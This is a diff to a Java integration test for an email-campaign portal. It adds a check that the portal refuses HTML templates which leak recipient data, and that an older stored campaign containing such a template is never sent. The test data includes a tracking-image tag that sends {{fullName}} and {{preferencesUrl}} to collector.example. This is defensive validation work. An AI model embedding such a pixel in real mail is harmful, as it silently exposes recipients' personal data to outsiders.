@@ -6,10 +6,12 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import app.custodian.testing.Api.Reply;
 import app.custodian.testing.Browser;
+import app.custodian.testing.DatabaseSeeds;
 import app.custodian.testing.PortalStack;
 import app.custodian.testing.ReceivedMail;
 import app.custodian.testing.Resources;
 import java.nio.file.Path;
+import java.sql.Connection;
 import java.time.Duration;
 import java.time.LocalDate;
 import java.util.List;
@@ -56,6 +58,7 @@ class PortalCampaignsIT {
     suppress(customer(true));
     String subject = "Tin tháng " + UUID.randomUUID().toString().substring(0, 8);
 
+    int before = campaignCount();
     try (Browser b = stack.signedInAs("MARKETING")) {
       b.go("/campaigns/list.xhtml");
       b.type(By.id("create:name"), "Bản tin tháng 11");
@@ -65,7 +68,7 @@ class PortalCampaignsIT {
       b.click(By.id("create:create-campaign"));
       b.settle();
       b.waitForText(By.id("create:textBodyMessage"), "{{unsubscribeUrl}}");
-      assertEquals(0, campaignCount(), "a body without the unsubscribe link creates nothing");
+      assertEquals(before, campaignCount(), "a body without the unsubscribe link creates nothing");
 
       b.type(
           By.id("create:textBody"),
@@ -86,7 +89,7 @@ class PortalCampaignsIT {
 
       b.click(By.id("create:create-campaign"));
       b.waitFor(By.id("campaign-name"));
-      assertEquals(1, campaignCount());
+      assertEquals(before + 1, campaignCount());
       assertEquals("3", b.text(By.id("campaign:audience")), "the opted-in, not suppressed");
       b.screenshot("campaigns-detail-draft");
 
@@ -105,6 +108,50 @@ class PortalCampaignsIT {
       b.screenshot("campaigns-list");
     }
     assertEquals(sorted(optedIn), sorted(ReceivedMail.recipientsOf(stack.smtp, "[QC] " + subject)));
+  }
+
+  @Test
+  void theFormShowsWhyATemplateLeaksAndAnOlderCampaignThatLeaksIsNotSent() throws Exception {
+    String collector =
+        "<img src=\"https://collector.example/p?n={{fullName}}&u={{preferencesUrl}}\">"
+            + "<p><a href=\"{{unsubscribeUrl}}\">Hủy đăng ký</a></p>";
+    String email = customer(true);
+    String subject = "Trước quy tắc " + UUID.randomUUID().toString().substring(0, 8);
+    String saved;
+    try (Connection db = stack.postgres.connect(stack.databaseUrl)) {
+      saved =
+          new DatabaseSeeds(db, null, null)
+              .campaign(
+                  "NEWSLETTER", true, subject, "Chào {{fullName}}. {{unsubscribeUrl}}", collector);
+    }
+    int before = campaignCount();
+
+    try (Browser b = stack.signedInAs("MARKETING")) {
+      b.go("/campaigns/list.xhtml");
+      b.type(By.id("create:name"), "Ảnh theo dõi");
+      b.type(By.id("create:subject"), "Tin mới");
+      b.type(By.id("create:textBody"), "Chào {{fullName}}. Hủy: {{unsubscribeUrl}}");
+      b.type(By.id("create:htmlBody"), collector);
+      String refused =
+          "{{fullName}} and {{preferencesUrl}} stand inside the src attribute of <img>";
+      b.waitForText(By.id("create:htmlBodyMessage"), refused); // the preview's check
+      b.click(By.id("create:create-campaign"));
+      b.settle();
+      b.waitForText(By.id("create:htmlBodyMessage"), refused);
+      b.screenshot("campaigns-list-template-refused");
+      assertEquals(before, campaignCount(), "nothing created");
+
+      b.go("/campaigns/detail.xhtml?id=" + saved);
+      b.click(By.id("campaign:send"));
+      b.click(By.id("campaign:confirm-yes"));
+      b.waitForText(
+          By.id("messages"),
+          "htmlBody: {{fullName}} and {{preferencesUrl}} stand inside the src attribute of <img>");
+      b.screenshot("campaigns-detail-send-refused");
+      assertTrue(b.text(By.id("status")).contains("DRAFT"), b.text(By.id("status")));
+    }
+    assertEquals("DRAFT", stack.admin.get("/api/v1/campaigns/" + saved).json().getString("status"));
+    assertEquals(List.of(), ReceivedMail.recipientsOf(stack.smtp, "[QC] " + subject), email);
   }
 
   @Test
